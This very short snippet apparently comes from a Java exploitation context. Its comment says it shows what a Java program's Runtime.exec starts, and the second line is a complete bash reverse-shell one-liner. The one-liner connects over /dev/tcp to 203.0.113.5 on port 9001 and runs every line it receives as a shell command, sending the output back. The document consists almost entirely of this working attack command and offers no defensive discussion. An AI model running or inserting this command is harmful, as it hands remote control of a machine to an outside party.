# What Runtime.exec of a Java program starts.
bash -c 'exec 5<>/dev/tcp/203.0.113.5/9001; cat <&5 | while read line; do $line 2>&5 >&5; done'
